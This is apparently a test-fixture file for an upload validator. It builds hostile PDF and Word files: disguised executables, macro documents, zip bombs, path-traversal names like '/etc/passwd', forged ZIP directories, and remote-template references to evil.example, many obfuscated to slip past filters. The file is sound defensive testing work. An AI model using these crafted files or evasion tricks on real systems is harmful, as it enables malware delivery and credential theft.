import { type Zippable, zipSync } from 'fflate'
import { changed, type HostileFile, script, svg } from './hostile-file.ts'
import { type Bytes, joined, textBytes, uint } from './sample-bytes.ts'
import { contentTypes, docxOf, docxParts, macroMainType, pdfOf, plainMainType, zipOf } from './sample-files.ts'
import { zip64Of } from './zip64-files.ts'

const program = () => joined('MZ', new Uint8Array(58), uint(4, 64, true), 'PE\0\0', new Uint8Array(400))

/** Writes these bytes at this place of every directory entry of an archive. */
function forgedDirectory(
	bytes: Bytes,
	place: number,
	values: number[],
	which: (name: string) => boolean = () => true,
): Bytes {
	const copy = bytes.slice()
	const view = new DataView(copy.buffer)
	const end = copy.length - 22
	for (let at = view.getUint32(end + 16, true); at < end; ) {
		const length = view.getUint16(at + 28, true)
		if (which(String.fromCharCode(...copy.subarray(at + 46, at + 46 + length)))) copy.set(values, at + place)
		at += 46 + length + view.getUint16(at + 30, true) + view.getUint16(at + 32, true)
	}
	return copy
}

/** Puts data before an archive and adapts the offsets in its directory. */
function behind(before: string, archive: Bytes): Bytes {
	const start = new DataView(archive.buffer).getUint32(docxEnd + 16, true)
	const first = forgedDirectory(archive, 42, uint(4, before.length, true), isTypes)
	return joined(before, changed(first, { [docxEnd + 16]: uint(4, start + before.length, true) }))
}

const isTypes = (name: string) => name === '[Content_Types].xml'
const isMainPart = (name: string) => name === 'word/document.xml'
const docxEnd = docxOf().length - 22

const docxWith = (parts: Zippable) => zipOf({ ...docxParts(), ...parts })
const docxTyped = (types: string) => docxWith({ '[Content_Types].xml': textBytes(types) })
const relationshipTypes = 'http://schemas.openxmlformats.org/officeDocument/2006/relationships'
const related = (relationship: string) =>
	docxWith({
		'word/_rels/settings.xml.rels': textBytes(
			`<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${relationship}</Relationships>`,
		),
	})
/** The relationships of a package whose document is this part. */
export const rootNaming = (...parts: string[]) =>
	`<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">${parts
		.map((part, at) => `<Relationship Id="rId${at}" Type="${relationshipTypes}/officeDocument" Target="${part}"/>`)
		.join('')}</Relationships>`
/** A Word document with an external reference. */
export const referringTo = (type: string, target: string) =>
	related(`<Relationship Id="rId1" Type="${relationshipTypes}/${type}" Target="${target}" TargetMode="External"/>`)
const template = (what: string, target: string) => docx(what, () => referringTo('attachedTemplate', target))

const docx = (what: string, bytes: () => Bytes): HostileFile => ({ what, name: 'cv.docx', bytes })
const pdf = (what: string, bytes: () => Bytes): HostileFile => ({ what, name: 'cv.pdf', bytes })

/** Files that must not pass as a PDF or a Word document. */
export const hostileDocuments: readonly HostileFile[] = [
	pdf('nothing', () => textBytes('')),
	pdf('a program', program),
	pdf('a page', () => textBytes(`<!doctype html><title>CV</title>${script}`)),
	pdf('a picture that is a page', () => textBytes(svg)),
	pdf('a PDF after 1,024 bytes', () => joined('\n'.repeat(1_024), pdfOf('CV'))),
	pdf('a PDF after the start of an archive', () => joined('PK\x03\x04', pdfOf('CV'))),
	pdf('an end before the header', () => joined('%%EOF\n%PDF-1.7\n')),
	pdf('a PDF cut short', () => pdfOf('CV').slice(0, -30)),
	pdf('the first line of a PDF', () => textBytes('%PDF-1.7\n')),
	pdf('a PDF of a version that there is not', () => joined('%PDF-3.0\n', pdfOf('CV').slice(9))),
	pdf('the start of a JPEG before a script', () => joined([0xff, 0xd8, 0xff, 0xe0], script)),
	pdf('PostScript', () => textBytes('%!PS-Adobe-3.0\n%%EOF')),
	docx('a program', program),
	docx('an archive', () => zipOf({ 'cv.txt': textBytes('CV') })),
	docx('an empty archive', () => new Uint8Array(zipSync({}))),
	docx('a document with macros', () => zipOf({ ...docxParts('CV', macroMainType), 'word/vbaProject.bin': program() })),
	docx('a document with macros and no project', () => zipOf(docxParts('CV', macroMainType))),
	docx('a template', () => zipOf(docxParts('CV', plainMainType.replace('document.main', 'template.main')))),
	docx('macros in a document that says it has none', () => docxWith({ 'word/vbaProject.bin': program() })),
	docx('macros in odd letters', () => docxWith({ 'word/VBAPROJECT.BIN': program() })),
	docx('an embedded program', () => docxWith({ 'word/embeddings/setup.exe': program() })),
	docx('a packed object', () => docxWith({ 'word/embeddings/oleObject1.bin': program() })),
	docx('a control', () => docxWith({ 'word/activeX/activeX1.xml': textBytes('<x/>') })),
	docx('a type in a comment', () => docxTyped(`<!--${contentTypes(plainMainType)}--><Types/>`)),
	docx('two types', () => docxTyped(contentTypes(plainMainType) + contentTypes(plainMainType))),
	docx('a type with macros beside the plain one', () =>
		docxTyped(
			contentTypes(plainMainType).replace(
				'<Override',
				`<Override PartName="/word/a.xml" ContentType="${macroMainType}"/>$&`,
			),
		),
	),
	docx('types shorter than declared', () => forgedDirectory(docxOf(), 24, uint(4, 1_500, true), isTypes)),
	docx('types that reach over the other parts', () => forgedDirectory(docxOf(), 20, uint(4, 500, true), isTypes)),
	docx('types that are no text', () =>
		docxWith({ '[Content_Types].xml': joined([0xff, 0xfe], contentTypes(plainMainType)) }),
	),
	docx('a document that the package does not name', () =>
		docxWith({ '_rels/.rels': textBytes(rootNaming('word/other.xml')) }),
	),
	docx('a package that names two documents', () =>
		docxWith({ '_rels/.rels': textBytes(rootNaming('word/document.xml', 'word/document.xml')) }),
	),
	docx('macros in the document that the package names, beside a plain one', () =>
		docxWith({
			'_rels/.rels': textBytes(rootNaming('word/macros.xml')),
			'word/macros.xml': textBytes('<x/>'),
			'[Content_Types].xml': textBytes(
				contentTypes(plainMainType).replace(
					'<Override',
					`<Override PartName="/word/macros.xml" ContentType="${macroMainType}"/>$&`,
				),
			),
		}),
	),
	docx('a document without types', () => zipOf({ 'word/document.xml': textBytes('<x/>') })),
	docx('types without a document', () => zipOf({ '[Content_Types].xml': textBytes(contentTypes(plainMainType)) })),
	docx('an encrypted archive', () => forgedDirectory(docxOf(), 8, [1, 0])),
	docx('50 MB, as the directory says', () =>
		forgedDirectory(docxOf('CV', { bytes: 600_000 }), 24, uint(4, 52_428_800, true), isMainPart),
	),
	docx('50 MB that come out of 51 KB', () =>
		docxWith({ 'word/media/a.bmp': [new Uint8Array(52_428_800), { level: 9 }] }),
	),
	docx('more than a hundred times its size', () => docxWith({ 'word/media/a.bmp': new Uint8Array(400_000) })),
	docx('types of another length than declared', () => forgedDirectory(docxOf(), 24, uint(4, 99, true), isTypes)),
	docx('types longer than a million characters', () =>
		docxWith({
			'[Content_Types].xml': textBytes(contentTypes(plainMainType) + ' '.repeat(1_000_000)),
			'docProps/filling.xml': [new Uint8Array(20_000), { level: 0 }],
		}),
	),
	docx('10,001 entries', () =>
		docxWith(Object.fromEntries(Array.from({ length: 9_998 }, (_, index) => [`word/${index}.xml`, new Uint8Array()]))),
	),
	docx('a name that leads out', () => docxWith({ '../../cv.xml': textBytes('<x/>') })),
	docx('a name that leads out on the way', () => docxWith({ 'word/../../cv.xml': textBytes('<x/>') })),
	docx('an absolute name', () => docxWith({ '/etc/passwd': textBytes('x') })),
	docx('a name with backslashes', () => docxWith({ 'word\\..\\cv.xml': textBytes('<x/>') })),
	docx('a name with a drive', () => docxWith({ 'C:/cv.xml': textBytes('<x/>') })),
	docx('two entries of one name', () => docxWith({ 'WORD/document.xml': textBytes('<x/>') })),
	docx('entries that lie over each other', () => forgedDirectory(docxOf(), 20, uint(4, 300, true))),
	docx('an entry outside of the file', () => forgedDirectory(docxOf(), 42, uint(4, 0xffff_fff0, true))),
	docx('a document after one byte', () => joined('P', docxOf())),
	docx('a document cut short', () => docxOf().slice(0, -1)),
	docx('a document with something behind it', () => joined(docxOf(), script)),
	docx('only the end of an archive', () => docxOf().slice(-22)),
	docx('something before a document', () => behind('P', docxOf())),
	docx('a document of two disks', () => changed(docxOf(), { [docxEnd + 4]: [1, 0] })),
	docx('fewer entries on its disk', () => changed(docxOf(), { [docxEnd + 8]: [2, 0] })),
	docx('a directory of another length', () => changed(docxOf(), { [docxEnd + 12]: [1, 0] })),
	docx('a large archive of another length than it says', () =>
		zip64Of(docxOf(), { said: { count: 2 }, plain: 'truth' }),
	),
	docx('a large archive whose directory is elsewhere', () => zip64Of(docxOf(), { said: { start: 4 }, plain: 'truth' })),
	docx('a large archive that begins beyond itself', () => zip64Of(docxOf(), { said: { start: 2 ** 40 } })),
	docx('a large archive of two disks', () => zip64Of(docxOf(), { said: { disks: 2 } })),
	docx('a large archive on the second disk', () => zip64Of(docxOf(), { said: { disk: 1 } })),
	docx('a large archive whose records are elsewhere', () => zip64Of(docxOf(), { said: { end: 4 } })),
	docx('a large archive without the numbers of its entries', () => zip64Of(docxOf(), { extraLength: 5 })),
	docx('a large archive with some numbers of its entries', () => zip64Of(docxOf(), { extraLength: 20 })),
	docx('a large archive with parts of 1 TB', () => zip64Of(docxOf(), { grown: 2 ** 40 })),
	docx('a large archive with parts longer than they are', () => zip64Of(docxOf(), { grown: 1 })),
	docx('a directory without its mark', () => forgedDirectory(docxOf(), 0, [0])),
	docx('names longer than the file', () => forgedDirectory(docxOf(), 28, [0xff, 0xff])),
	docx('a part packed in a way that Word does not know', () => forgedDirectory(docxOf(), 10, [12, 0], isMainPart)),
	docx('a stored part of two sizes', () => forgedDirectory(docxOf(), 10, [0, 0], isMainPart)),
	docx('types that are somewhere else', () => forgedDirectory(docxOf(), 42, uint(4, 1, true), isTypes)),
	docx('types whose place is not marked', () =>
		changed(zipOf({ a: [new Uint8Array(), { level: 0 }], ...docxParts() }), { 31: [0] }),
	),
	docx('types that begin behind the file', () => changed(docxOf(), { 28: [0xff, 0xff] })),
	docx('types that have another name in their place', () => changed(docxOf(), { 30: [0x58] })),
	docx('types that are packed otherwise in their place', () => changed(docxOf(), { 8: [0, 0] })),
	template('a template on the web', 'https://evil.example/a.dotm'),
	template('a template on the web in odd letters', ' HTTP://evil.example/a.dotm'),
	template('a template on the web by entities', '&#104;&#x74;tp://evil.example/a.dotm'),
	template('a template on the web with a line break in its scheme', 'ht&#10;tp://evil.example/a.dotm'),
	template('a template on a share', '\\\\evil.example\\share\\a.dotm'),
	template('a template on a share with slashes', '//evil.example/share/a.dotm'),
	template('a template on a share by file:', 'file://evil.example/share/a.dotm'),
	template('a template on a share by file: with more slashes', 'file://///evil.example/share/a.dotm'),
	template('a template on a share with escapes', 'file:///%5C%5Cevil.example/share/a.dotm'),
	template('a template on a share by its long name', '\\\\?\\UNC\\evil.example\\share\\a.dotm'),
	template('a template by another scheme', 'mhtml:https://evil.example/a!b.dotm'),
	docx('a picture on the web', () => referringTo('image', 'http://evil.example/a.png')),
	docx('an object on a share', () => referringTo('oleObject', 'file://evil.example/share/a.xls')),
	docx('a frame on the web', () => referringTo('frame', 'https://evil.example/')),
	docx('a template whose mode another attribute hides', () =>
		related(
			`<Relationship Id='a TargetMode="Internal" Target="b.xml"' Type="${relationshipTypes}/attachedTemplate" Target="https://evil.example/a.dotm" TargetMode="External"/>`,
		),
	),
	docx('a template on the web that is not called external', () =>
		related(`<Relationship Id="a" Type="${relationshipTypes}/attachedTemplate" Target="https://evil.example/a.dotm"/>`),
	),
	docx('a template on the web, in a namespace with a prefix', () =>
		related(
			`<x:Relationship Id="a" Type="${relationshipTypes}/attachedTemplate" TargetMode='external' Target='https://evil.example/a.dotm'/>`,
		),
	),
	docx('relationships in UTF-16', () => docxWith({ 'word/_rels/document.xml.rels': joined([0xff, 0xfe], '<\0R\0') })),
	docx('relationships with an entity of their own', () =>
		related('<!DOCTYPE a [<!ENTITY b "https://evil.example/">]>'),
	),
	docx('relationships longer than a million characters', () => related(' '.repeat(1_000_001))),
	docx('a page that Word takes in', () =>
		related(`<Relationship Id="a" Type="${relationshipTypes}/aFChunk" Target="page.xml"/>`),
	),
	docx('a part that is called after such a page', () =>
		docxWith({ 'word/afchunk.mht': textBytes('MIME-Version: 1.0') }),
	),
	docx('macros under a name with a dot at its end', () => docxWith({ 'word/vbaProject.bin.': program() })),
	docx('a program under a name with a space at its end', () => docxWith({ 'word/media/setup.exe ': program() })),
	docx('a folder with a dot at its end', () => docxWith({ 'word/activeX./activeX1.xml': textBytes('<x/>') })),
	docx('a part longer than declared', () => forgedDirectory(docxOf(), 24, uint(4, 9, true), isMainPart)),
	docx('a part shorter than declared', () => forgedDirectory(docxOf(), 24, uint(4, 900, true), isMainPart)),
	docx('a part that is not packed as it says', () =>
		forgedDirectory(docxOf('CV', { bytes: 9_000 }), 10, [8, 0], (name) => name === 'docProps/filling.xml'),
	),
	docx('an old Word document', () => joined([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], new Uint8Array(600))),
	docx('rich text', () => textBytes('{\\rtf1 CV}')),
]
